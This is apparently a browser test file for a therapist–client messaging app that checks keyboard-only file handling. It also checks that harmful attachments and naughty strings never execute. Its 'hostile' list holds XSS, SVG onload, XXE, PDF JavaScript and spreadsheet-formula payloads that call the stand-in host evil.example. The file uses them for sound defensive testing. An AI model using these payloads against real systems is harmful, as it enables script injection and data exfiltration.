/** Files between the two, by keyboard alone: attached, sent, fetched, looked at, saved; and files and names that mean harm. */
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { expectUsable } from "./testing/axe.ts";
import type { Person } from "./testing/browser.ts";
import { attach, fileLine, type Given, png } from "./testing/given-files.ts";
import { expectCalm, meet, useHost } from "./testing/ground.ts";
import { root, startHostProcess } from "./testing/host.ts";
import { press, type } from "./testing/keyboard.ts";
import { button, field, say, see } from "./testing/screen.ts";
import { meetInLetters, readsLetter, writeLetter } from "./testing/story.ts";

const ground = useHost();

/** Both in their room, with its letters open. */
async function inTheirRoom(): Promise<{ weil: Person; anna: Person }> {
  const { browser } = ground;
  // An admission code opens one practice.
  const host = await startHostProcess({});
  onTestFinished(() => host.stop());
  const weil = await meet(browser, host.origin, "weil");
  const anna = await meet(browser, host.origin, "anna");
  await meetInLetters(host, weil.page, anna.page);
  return { weil, anna };
}

test("[FI15] [FI12] by keyboard alone a picture and a text are attached, sent, fetched, looked at and saved", async () => {
  const { weil, anna } = await inTheirRoom();
  const picture = png(200);
  const text = Buffer.from("Der Traum vom Haus mit zwei Türen.\n");
  await attach(anna.page, [
    { name: "Zeichnung Anna.png", mimeType: "image/png", buffer: picture },
    { name: "Traum.txt", mimeType: "text/plain", buffer: text },
    { name: "falsch.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.7 \u0001") },
  ]);
  await expectUsable(anna.page, "a letter with files attached");
  const wrong = anna.page.getByRole("listitem").filter({ hasText: "falsch.pdf" });
  await press(anna.page, wrong.getByRole("button", { name: say.files.takeOff }), "Enter");
  await wrong.waitFor({ state: "detached" });
  // What is attached outlives the page.
  await anna.page.reload();
  await button(anna.page, say.standing.withPasskey).click();
  await see(anna.page, "Zeichnung Anna.png");
  await type(anna.page, field(anna.page, say.room.to("Dr. Weil")), "What I drew, and the dream.");
  await press(anna.page, button(anna.page, say.room.send), "Enter");
  await see(anna.page, say.room.letterSent);

  await readsLetter(weil.page, "What I drew");
  expect(await fileLine(weil.page, "Zeichnung Anna.png").innerText()).toContain(`${picture.length} bytes`);
  await expectUsable(weil.page, "a letter with files not fetched");
  for (const name of ["Zeichnung Anna.png", "Traum.txt"]) {
    await press(weil.page, fileLine(weil.page, name).getByRole("button", { name: say.files.fetch }), "Enter");
    await press(weil.page, fileLine(weil.page, name).getByRole("button", { name: say.files.look }), "Enter");
  }
  const frame = weil.page.locator("iframe");
  await frame.waitFor();
  expect(await frame.getAttribute("sandbox")).toBe("");
  expect(await frame.getAttribute("src")).toMatch(/^blob:/);
  const image = weil.page.getByRole("img", { name: say.files.shown("Zeichnung Anna.png") });
  await expect.poll(() => image.evaluate((shown) => (shown as HTMLImageElement).naturalWidth)).toBe(200);
  await weil.page.frameLocator("iframe").getByText("zwei Türen").waitFor();
  await expectUsable(weil.page, "files looked at");
  const saving = weil.page.waitForEvent("download");
  await press(
    weil.page,
    fileLine(weil.page, "Zeichnung Anna.png").getByRole("button", { name: say.files.save }),
    "Enter",
  );
  const download = await saving;
  expect(download.suggestedFilename()).toMatch(/^letter-\d{4}-\d{2}-\d{2}-1\.png$/);
  const path = join(mkdtempSync(join(tmpdir(), "holdfast-saved-")), "saved.png");
  await download.saveAs(path);
  expect(readFileSync(path).equals(picture)).toBe(true);
  expectCalm(weil, anna);
});

/** Each would call out, or write its mark, if anything ran it. */
const mark = "holdfast-ran";
const calling = "https://evil.example/x";
const script = `top.name='${mark}';parent.postMessage('${mark}','*');fetch('${calling}')`;
const hostile: readonly Given[] = [
  ["page.html", "text/html", `<!doctype html><img src="${calling}"><script>${script}</script>`],
  ["looks-like.png", "image/png", `<html><body onload="${script}"><iframe src="${calling}"></iframe>`],
  [
    "drawing.svg",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${calling}"/><script>${script}</script></svg>`,
  ],
  [
    "data.xml",
    "application/xml",
    `<?xml version="1.0"?><?xml-stylesheet href="${calling}"?><!DOCTYPE x [<!ENTITY e SYSTEM "${calling}">]><x>&e;</x>`,
  ],
  [
    "paper.pdf",
    "application/pdf",
    `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n\u0001`,
  ],
  // Plain text for the browser that attached it, and shown as that.
  [
    "note.txt",
    "text/plain",
    `javascript:${script}\n{{7*7}} <script>${script}</script> =HYPERLINK("${calling}")`,
  ],
].map(([name, mimeType, text]) => ({
  name: name ?? "",
  mimeType: mimeType ?? "",
  buffer: Buffer.from(text ?? ""),
}));

/** "Big List of Naughty Strings" (MIT; tests/browser/testing/blns). */
const naughty = JSON.parse(
  readFileSync(join(root, "tests/browser/testing/blns/blns.json"), "utf8"),
) as readonly string[];

test("[FI13] [FI12] [FI11] no file that means harm runs or asks for anything, and each is saved as it is", async () => {
  const { weil, anna } = await inTheirRoom();
  await attach(anna.page, hostile);
  await writeLetter(anna.page, "Dr. Weil", "Six files.");
  await readsLetter(weil.page, "Six files.");
  const folder = mkdtempSync(join(tmpdir(), "holdfast-hostile-"));
  for (const [index, { name, buffer }] of hostile.entries()) {
    const line = fileLine(weil.page, name);
    await line.getByRole("button", { name: say.files.fetch }).click();
    await line.getByRole("button", { name: say.files.look }).click();
    if (name === "note.txt") await line.locator("iframe").waitFor();
    else await line.getByText(say.files.notShown).waitFor();
    const saving = weil.page.waitForEvent("download");
    await line.getByRole("button", { name: say.files.save }).click();
    const download = await saving;
    expect(download.suggestedFilename()).toMatch(
      new RegExp(`^letter-\\d{4}-\\d{2}-\\d{2}-${index + 1}\\.${name.split(".").at(-1)}$`),
    );
    const path = join(folder, name);
    await download.saveAs(path);
    expect(readFileSync(path).equals(buffer)).toBe(true);
  }
  expect(await weil.page.evaluate(() => top?.name)).toBe("");
  expectCalm(weil, anna);
});

test("[FI13] [FI11] every naughty string is a name and the words of a letter, and nothing comes of it", async () => {
  const { weil, anna } = await inTheirRoom();
  expect(naughty.length).toBeGreaterThan(500);
  for (const { page } of [weil, anna])
    await page.evaluate((name) => {
      for (const way of ["alert", "confirm", "prompt", "open"] as const)
        Object.defineProperty(window, way, { value: () => void (window.name = name) });
    }, mark);
  // Every string is among the words of a letter; those that could do harm as a name are names, eight to a letter.
  const harmful = naughty.filter((one) => /[<>"'`{}$%\\/]|\p{Cf}|\p{Cc}/u.test(one));
  const names = harmful.filter((_, at) => at % Math.ceil(harmful.length / 48) === 0);
  const letters = Array.from({ length: 6 }, (_, at) => ({
    names: names.slice(8 * at, 8 * at + 8),
    text: naughty.filter((_, number) => number % 6 === at).join("\n"),
  }));
  for (const { names: strings, text } of letters) {
    const chooser = anna.page.waitForEvent("filechooser");
    await button(anna.page, say.files.attach).click();
    // A browser gives a name without its folders; what it would refuse is put in by its own hands.
    await chooser;
    await anna.page
      .locator("input[type=file]")
      .last()
      .evaluate((input, names) => {
        const chosen = new DataTransfer();
        for (const name of names) chosen.items.add(new File(["x"], name, { type: "text/plain" }));
        (input as HTMLInputElement).files = chosen.files;
        input.dispatchEvent(new Event("change", { bubbles: true }));
      }, strings);
    const list = anna.page.getByRole("list", { name: say.files.attached });
    await expect.poll(() => list.getByText(say.files.kept).count()).toBe(strings.length);
    await field(anna.page, say.room.to("Dr. Weil")).fill(`Strings:\n${text}`);
    await button(anna.page, say.room.send).click();
    await list.waitFor({ state: "detached" });
  }
  await expect.poll(() => weil.page.locator(".letter").count()).toBeGreaterThan(3);
  await see(anna.page, say.room.letterSent);
  // Every letter is shown on both sides.
  for (const { page } of [weil, anna]) {
    const earlier = button(page, say.room.earlierLetters);
    await earlier.click();
    await expect.poll(() => page.locator(".letter").count()).toBe(letters.length);
    expect(await page.locator(".letter-file").count()).toBe(names.length);
    expect(await page.evaluate(() => window.name)).toBe("");
    for (const name of await page.locator(".letter-file-name").allInnerTexts())
      expect(name).not.toMatch(/[\p{Cf}\p{Cc}]/u);
    const widths = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
    expect(widths[0]).toBeLessThanOrEqual(widths[1] ?? 0);
  }
  expectCalm(weil, anna);
});
